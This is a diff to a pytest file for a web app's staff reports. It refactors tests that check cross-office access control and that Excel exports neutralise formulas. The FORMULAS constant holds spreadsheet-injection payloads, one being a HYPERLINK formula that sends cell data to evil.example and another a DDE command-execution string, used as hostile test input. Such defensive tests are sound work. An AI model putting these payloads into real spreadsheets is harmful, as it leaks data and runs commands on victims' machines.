@@ -8,40 +8,21 @@ from io import BytesIO
 
 import pytest
 from openpyxl import load_workbook
+from reports_world import DAY, report_url, two_offices
 
 from matchmaker.enums import MeetingStatus, OrgKind, Outcome, RequestStatus, Role
 from matchmaker.extensions import db
-from matchmaker.models import Feedback, Meeting, MeetingSeat, User
+from matchmaker.models import Feedback, Meeting, User
 from matchmaker.services import ServiceError
 
-DAY = date.today() - timedelta(days=3)
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+2", "=cmd|' /C calc'!A0")
 
 
-def add_meeting(request, slot: int = 0) -> Meeting:
-    s = request.event.slots()[slot]
-    meeting = Meeting(uid=f"sec-{request.id}@test", event_id=request.event_id, request_id=request.id,
-                      start_dt=s.start, end_dt=s.end)
-    db.session.add(meeting)
-    db.session.flush()
-    db.session.add_all([MeetingSeat(meeting_id=meeting.id, organization_id=o, start_dt=s.start)
-                        for o in (request.from_org_id, request.to_org_id)])
-    db.session.commit()
-    return meeting
-
-
 @pytest.fixture
-def offices(make_office, make_program, make_event, make_org, make_user, make_request):
+def offices(make_office, make_program, make_event, make_org, make_user, make_request, add_meeting):
     """Two offices with one past day each; office A's day has a meeting whose names and feedback comment
     were written by members as spreadsheet formulas (and one with a control character)."""
-    made = {}
-    for name in ("A", "B"):
-        office = make_office(name=f"Office {name}")
-        program = make_program(office, title=f"Program {name}", start_date=DAY, end_date=DAY)
-        event = make_event(program, title=f"Day {name}", date=DAY, published=True, timezone="UTC",
-                           day_start=time(9), day_end=time(12))
-        made[name] = dict(office=office, program=program, event=event,
-                          staff=make_user(Role.STAFF, office_id=office.id))
+    made = two_offices(make_office, make_program, make_event, make_user)
     event = made["A"]["event"]
     company = make_org(OrgKind.COMPANY, name=FORMULAS[0])
     investor = make_org(OrgKind.INVESTOR, name="=2+3")
@@ -57,13 +38,6 @@ def offices(make_office, make_program, make_event, make_org, make_user, make_req
     return made
 
 
-def _url(scope: str, made: dict, name: str = "A", export: bool = False) -> str:
-    path = "/staff/reports/export.xlsx" if export else "/staff/reports"
-    if scope == "year":
-        return f"{path}?scope=year&year={DAY.year}"
-    return f"{path}?scope={scope}&id={made[name][scope].id}"
-
-
 # --- scopes of another office -----------------------------------------------------------------------
 
 @pytest.mark.parametrize("export", [False, True])
@@ -71,15 +45,15 @@ def _url(scope: str, made: dict, name: str = "A", export: bool = False) -> str:
 def test_staff_of_another_office_get_403_on_page_and_export(client, auth, offices, scope, export):
     auth.login(offices["B"]["staff"])
 
-    assert client.get(_url(scope, offices, "A", export)).status_code == 403
-    assert client.get(_url(scope, offices, "B", export)).status_code == 200
+    assert client.get(report_url(scope, offices, "A", export)).status_code == 403
+    assert client.get(report_url(scope, offices, "B", export)).status_code == 200
 
 
 def test_year_scope_holds_only_the_viewers_office(client, auth, offices):
     auth.login(offices["B"]["staff"])
 
-    page = client.get(_url("year", offices)).get_data(as_text=True)
-    book = load_workbook(BytesIO(client.get(_url("year", offices, export=True)).data))
+    page = client.get(report_url("year", offices)).get_data(as_text=True)
+    book = load_workbook(BytesIO(client.get(report_url("year", offices, export=True)).data))
 
     assert "Day B" in page and "Day A" not in page
     cells = {str(c) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row}
@@ -152,7 +126,7 @@ def _assert_no_formula(cells: list) -> None:
 def test_report_export_writes_member_text_as_text_not_formulas(client, auth, offices):
     auth.login(offices["A"]["staff"])
 
-    response = client.get(_url("event", offices, export=True))
+    response = client.get(report_url("event", offices, export=True))
 
     assert response.status_code == 200
     cells = _cells(response.data)
@@ -187,7 +161,7 @@ FORM = {"rating": "4", "follow_up": "y", "outcome": "mou", "amount_usd": "150000
 
 
 @pytest.fixture
-def met(make_event, make_user, make_request):
+def met(make_event, make_user, make_request, add_meeting):
     """Two published past meetings at one day: company A with an investor, rival B with a buyer; and a
     meeting of A's in an unpublished day."""
     event = make_event(published=True, date=DAY, timezone="UTC", day_start=time(9), day_end=time(12))
